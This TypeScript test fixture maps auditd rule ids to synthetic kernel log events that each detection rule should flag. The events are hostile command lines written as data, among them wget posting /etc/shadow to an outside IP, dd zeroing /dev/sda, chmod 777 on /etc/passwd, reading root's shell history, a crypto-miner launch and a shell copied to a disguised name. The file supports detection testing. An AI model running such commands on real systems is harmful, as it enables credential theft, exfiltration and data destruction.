/** For tests: for each public auditd rule, by its id, an event that it is written for, as the kernel logs it. */
import type { AuditLog } from '../telemetry/audit-log.fixture';

type Write = (log: AuditLog) => number;

const exec =
  (...argv: string[]): Write =>
  (log) =>
    log.exec(argv);
const reads =
  (name: string): Write =>
  (log) =>
    log.file([{ name }]);
/** x86_64 system calls by name */
const CALLS = { personality: 135, mknod: 133, sysinfo: 99, syslog: 103 };

export const TRIGGERS: Readonly<Record<string, Write>> = {
  // EXECVE
  'c52a914f-3d8b-4b2a-bb75-b3991e75f8ba': exec('truncate', '-s', '100M', '/tmp/x'),
  '70b4156e-50fc-4523-aa50-c9dddf1993fc': exec(
    'iptables',
    '-t',
    'nat',
    '-A',
    'PREROUTING',
    '-j',
    'REDIRECT',
    '--to-ports',
    '42391',
  ),
  'fe10751f-1995-40a5-aaa2-c97ccb4123fe': exec('getcap', '-r', '/'),
  'b3cec4e7-6901-4b0d-a02d-8ab2d8eb818b': exec('touch', '-t', '202001010000', '/tmp/x'),
  'a5b977d6-8a81-4475-91b9-49dbfcd941f7': exec('chattr', '-i', '/etc/passwd'),
  '214e7e6c-f21b-47ff-bb6f-551b2d143fcf': exec('xclip', '-selection', 'clipboard', '-o'),
  'f200dc3f-b219-425d-a17e-c38467364816': exec('xclip', '-sel', 'clip', '-t', 'image/png', '-o'),
  '071d5e5a-9cef-47ec-bc4e-a42e34d8d0ed': exec('/tmp/m', '-o', 'pool', '--cpu-priority=5'),
  'a3b5e3e9-1b49-4119-8b8e-0344a01f21ee': exec('tar', '-cf', '/tmp/a.tar', '/home'),
  'cb39d16b-b3b6-4a7a-8222-1cf24b686ffc': exec('wget', '--post-file=/etc/shadow', 'http://203.0.113.9'),
  '37222991-11e9-4b6d-8bdf-60fbe48f753e': exec('dd', 'if=/dev/zero', 'of=/dev/sda'),
  '74c01ace-0152-4094-8ae2-6fd776dd43e5': exec('chmod', '777', '/etc/passwd'),
  'df3fcaea-2715-4214-99c5-0056ea59eb35': exec('grep', '-r', 'password', '/home'),
  'd08722cd-3d09-449a-80b4-83ea2d9d4616': exec('mkdir', '/tmp/.x'),
  '45810b50-7edc-42ca-813b-bdac02fb946b': exec('cat', 'cat.jpg', 'secret.zip'),
  '9d4548fa-bba0-4e88-bd66-5d5bf516cda0': exec('cp', '/bin/sh', '/tmp/crond'),
  '323ff3f5-0013-4847-bbd4-250b5edb62cc': exec('ufw', 'delete', 'allow'),
  'f4d3748a-65d1-4806-bd23-e25728081d01': exec('tcpdump', '-c', '5', '-i', 'eth0'),
  'dbe4b9c5-c254-4258-9688-d6af0b7967fd': exec('import', '-window', 'root', '/tmp/s.png'),
  'e2f17c5d-b02a-442b-9052-6eb89c9fec9c': exec('xwd', '-root', '-out', '/tmp/s.xwd'),
  'ce446a9e-30b9-4483-8e38-d2c9ad0a2280': exec('steghide', 'embed', '-cf', 'a.jpg', '-ef', 'b.zip'),
  'a5a827d9-1bbe-4952-9293-c59d897eb41b': exec('steghide', 'extract', '-sf', 'a.jpg'),
  '1543ae20-cbdf-4ec1-8d12-7664d667a825': exec('chmod', '777', '/tmp/x'),
  'eae8ce9f-bde9-47a6-8e79-f20d18419910': exec('cat', '/root/.bash_history'),
  '2625cc59-0634-40d0-821e-cb67382a3dd7': exec('systemctl', 'start', 'x'),
  '4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f': exec('shutdown', '-h', 'now'),
  'edd595d7-7895-4fa7-acb3-85a18a8772ca': exec('unzip', 'a.jpg'),
  '9a0d8ca0-2385-4020-b6c6-cb6153ca56f3': exec('whoami'),
  'a7af2487-9c2f-42e4-9bb9-ff961f0561d5': exec('arecord', '-vv', '-fdat'),
  'e497a24e-9345-4a62-9803-b06d7d7cb132': (log) => log.syscall({ syscall: CALLS.personality, a0: '40000' }),
  'ca94a6db-8106-4737-9ed2-3e3bb826af0a': reads('/etc/login.defs'),
  'f34047d9-20d3-4e8b-8672-0a35cc50dc71': exec('uname', '-a'),
  // PATH
  '49aae26c-450e-448b-911d-b3c13d178dfc': reads('/etc/pam.d/system-auth'),
  '977ef627-4539-4875-adf4-ed8f780c4922': reads('/etc/audit/auditd.conf'),
  '808146b2-9332-4d78-9416-d7e47012d83d': (log) =>
    log.file([
      { name: '/var/run/', nametype: 'PARENT' },
      { name: '/var/run/haldrund.pid', nametype: 'CREATE' },
    ]),
  '9e1bef8d-0fff-46f6-8465-9aa54e128c1e': reads('/home/ana/.secret/x'),
  '4b3cb710-5e83-4715-8c45-8b2b5b3e5751': reads('/etc/ld.so.preload'),
  'c830f15d-6f6e-430f-8074-6f73d6807841': reads('/etc/rsyslog.conf'),
  'ea61bb82-a5e0-42e6-8537-91d29500f1b9': reads('/proc/sysrq-trigger'),
  '1f358e2e-cb63-43c3-b575-dfb072a6814f': reads('/sys/class/dmi/id/bios_version'),
  '1bac86ba-41aa-4f62-9d6b-405eac99b485': (log) =>
    log.file([
      { name: '/etc/systemd/system/', nametype: 'PARENT' },
      { name: '/etc/systemd/system/x.service', nametype: 'CREATE' },
    ]),
  'a94cdd87-6c54-4678-a6cc-2814ffe5a13d': reads('/root/.bashrc'),
  // records of user space
  '53059bc0-1472-438b-956a-7508a94a91f0': (log) =>
    log.user(
      'SERVICE_STOP',
      'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success',
    ),
  '759d0d51-bc99-4b5e-9add-8f5b2c8e7512': (log) =>
    log.user('ADD_USER', 'op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'),
  // SYSCALL
  'f7158a64-6204-4d6d-868a-6e6378b467e0': (log) => log.exec(['curl', 'http://203.0.113.9'], { key: 'susp_activity' }),
  'eca5e022-d368-4043-98e5-9736fb01f72f': (log) => log.syscall({ syscall: CALLS.syslog, a0: '5' }),
  '106d7cbd-80ff-4985-b682-a7043e5acb72': (log) =>
    log.exec(['insmod', 'x.ko'], { exe: '/usr/bin/kmod', comm: 'insmod' }),
  '3761e026-f259-44e6-8826-719ed8079408': (log) => log.exec(['nmap', '10.0.0.0/8'], { key: 'network_connect_4' }),
  '2dad0cba-c62a-4a4f-949f-5f6ecd619769': exec('split', '-b', '1M', 'x'),
  'b207d563-a1d9-4275-b349-77d1eb55aa6d': (log) => log.syscall({ syscall: CALLS.sysinfo, exe: '/usr/bin/free' }),
  'a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc': exec('/tmp/payload'),
  '710bdbce-495d-491d-9a8f-7d0d88d2b41e': (log) => log.syscall({ syscall: CALLS.mknod, exe: '/usr/bin/mknod' }),
  'c0d3734d-330f-4a03-aae2-65dacc6a8222': (log) => log.exec(['id'], { uid: 33 }),
};
